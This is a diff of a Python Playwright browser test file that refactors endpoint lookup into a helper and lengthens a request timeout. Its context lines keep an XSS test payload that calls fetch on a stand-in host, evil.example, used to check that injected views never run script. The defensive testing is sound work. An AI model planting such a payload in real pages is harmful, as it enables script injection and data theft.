@@ -16,9 +16,9 @@ import plotly.graph_objects as go
 import pytest
 from playwright.sync_api import Browser, Locator, Page, Request, expect
 from tests.browser.conftest import OpenPage
+from tests.service.reading import endpoint_of
 
 import trackd
-from trackd import _daemon
 
 RUN_IT = "(top.owned=1,alert(1),fetch('//evil.example'))"
 TAGS = (
@@ -103,9 +103,8 @@ document.addEventListener("securitypolicyviolation", (event) =>
 
 def put_view(store: Path, project: str, view: str, document: Any) -> None:
     """Saves a view as no page of ours would write it."""
-    endpoint = _daemon.read_endpoint(str(store))
-    assert endpoint is not None
-    connection = http.client.HTTPConnection(str(urlsplit(endpoint.http_address).netloc), timeout=20)
+    endpoint = endpoint_of(store)
+    connection = http.client.HTTPConnection(str(urlsplit(endpoint.http_address).netloc), timeout=60)
     connection.request(
         "PUT",
         f"/api/v1/projects/{quote(project, safe='')}/views/{view}",
@@ -235,8 +234,7 @@ class Guard:
     """A page, and what must never happen on it."""
 
     def __init__(self, browser: Browser, store: Path) -> None:
-        endpoint = _daemon.read_endpoint(str(store))
-        assert endpoint is not None
+        endpoint = endpoint_of(store)
         self.origin = endpoint.http_address
         self.faults: list[str] = []
         self.context = browser.new_context(viewport={"width": 1440, "height": 900}, reduced_motion="reduce")
